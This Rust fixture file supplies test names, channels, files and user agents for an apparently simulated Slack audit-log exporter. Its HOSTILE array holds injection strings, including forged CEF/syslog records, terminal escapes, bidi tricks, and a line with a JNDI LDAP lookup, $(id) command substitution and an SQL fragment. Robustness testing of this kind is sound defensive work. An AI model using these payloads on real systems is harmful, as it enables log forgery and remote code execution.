//! Names of people, channels, files and machines, as they stand inside a JSON string.

pub(in crate::simulate::slack) const PEOPLE: [&str; 24] = [
    "Ada Lovelace",
    "Zoë Größe",
    "李小龍",
    "Łukasz Żółć",
    "María José Ñandú",
    "Søren Ærø",
    "O'Brien, Pat",
    "Владимир Иванов",
    "محمد علي",
    "दीपिका शर्मा",
    "John Smith",
    "Jane \\\"JJ\\\" Doe",
    "André Müller",
    "Nguyễn Thị Hoa",
    "Ren\\u00e9e Dupont",
    "김민준",
    "Grace Hopper",
    "Emoji \\ud83d\\ude80 Person",
    "Olu Adébáyò",
    "Ivana Horvat",
    "Tom=Tom",
    "A|B Testing",
    "C:\\\\Users\\\\svc",
    "Kim\\/Lee",
];

pub(in crate::simulate::slack) const CHANNELS: [&str; 14] = [
    "general",
    "random",
    "sécurité",
    "proj-apollo",
    "incident-2026-07",
    "営業部",
    "help-it",
    "finance_q3",
    "exec-private",
    "team-größe",
    "ext-acme-shared",
    "devops\\/oncall",
    "hr",
    "котики",
];

pub(in crate::simulate::slack) const FILES: [&str; 12] = [
    "Q3 forecast.xlsx",
    "incident_summary",
    "Übersicht (final).pdf",
    "image.png",
    "payroll=2026.csv",
    "設計書.docx",
    "keys.pem",
    "a|b.txt",
    "C:\\\\temp\\\\dump.bin",
    "notes\\/draft.md",
    "\\u202etxt.exe",
    "",
];

pub(in crate::simulate::slack) const FILE_TYPES: [&str; 6] =
    ["application\\/pdf", "image\\/png", "text\\/csv", "application\\/vnd.slack-docs", "", "text\\/plain"];

pub(in crate::simulate::slack) const WORKSPACES: [&str; 4] =
    ["Example Workspace", "Forschung & Entwicklung", "東京", "Sales=EMEA"];

pub(in crate::simulate::slack) const USER_AGENTS: [&str; 11] = [
    "Mozilla\\/5.0 (Macintosh; Intel Mac OS X 26_6_2) AppleWebKit\\/537.36 (KHTML, like Gecko) Slack\\/4.51.191 Chrome\\/150.0.7871.224 Electron\\/43.4.0 Safari\\/537.36 AppleSilicon Sonic Slack_SSB\\/4.51.191",
    "Mozilla\\/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit\\/537.36 (KHTML, like Gecko) Chrome\\/150.0.0.0 Safari\\/537.36 Edg\\/150.0.0.0 (managed; device 7c9e6679-7425-40de-944b-e07fc1f90ae7)",
    "Mozilla\\/5.0 (Linux; Android 16; Pixel 11 Pro) AppleWebKit\\/537.36 (KHTML, like Gecko) Version\\/4.0 Chrome\\/150.0.7871.200 Mobile Safari\\/537.36 com.Slack\\/26.08.20.0",
    "Mozilla\\/5.0 (Macintosh; Intel Mac OS X 26_1_0) AppleWebKit\\/537.36 (KHTML, like Gecko) Slack\\/4.47.65 Chrome\\/142.0.7444.175 Electron\\/39.2.3 Safari\\/537.36 MacAppStore\\/25.1.0 AppleSilicon Sonic Slack_SSB\\/4.47.65",
    "Mozilla\\/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit\\/537.36 (KHTML, like Gecko) Slack\\/4.51.191 Chrome\\/150.0.7871.224 Electron\\/43.4.0 Safari\\/537.36 Sonic Slack_SSB\\/4.51.191",
    "Mozilla\\/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit\\/537.36 (KHTML, like Gecko) Chrome\\/142.0.0.0 Safari\\/537.36",
    "Mozilla\\/5.0 (X11; Linux x86_64; rv:147.0) Gecko\\/20100101 Firefox\\/147.0",
    "com.tinyspeck.chatlyio\\/26.08.30 (iPhone; iOS 26.5; Scale\\/3.00)",
    "com.Slack\\/26.08.20.0 (google Pixel 11; Android 16)",
    "ApiApp\\/A0123456789 Python\\/3.13.2 slackclient\\/3.38.0 Linux\\/6.12.0",
    "OKTA SCIM Client 1.0.0",
];

/// Names that try to break out of a field, a line, a frame or a terminal.
pub(in crate::simulate::slack) const HOSTILE: [&str; 20] = [
    "two\\nlines",
    "carriage\\r\\nreturn",
    "x\\nCEF:0|Slack|Audit Logs|1|user_login|User logged in|1|suser=nobody outcome=success",
    "CEF:0|Evil|Forged|1|100|all is well|0|act=none",
    "x\\n<134>1 2026-01-01T00:00:00Z host slackcef - - - CEF:0|Evil|Forged|1|1|x|0|",
    "88 <134>1 2026-01-01T00:00:00Z host slackcef - - - CEF:0|Evil|Forged|1|1|x|0|",
    "name suser=root src=192.0.2.66 cs1Label=x",
    "name\\u2028suser\\u2029=root\\u0085next",
    "pipe|pipe\\\\|pipe",
    "equals=a\\\\=b=",
    "back\\\\slash\\\\",
    "quote\\\"quote'\\u0060",
    "NUL\\u0000after",
    "bell\\u0007 escape\\u001b[31mred\\u001b[0m",
    "bidi \u{202e}gnp.exe\u{202c} \\u2066marks\\u2069",
    "lone \\ud800 high",
    "lone \\udfff low \\ude00\\ud83d swapped",
    "\u{feff}zero\u{200b}width\u{fffd}",
    "%00%0a%7c ${jndi:ldap:\\/\\/192.0.2.1\\/x} <!channel> $(id) ';--",
    " \\t leading and trailing \\t ",
];
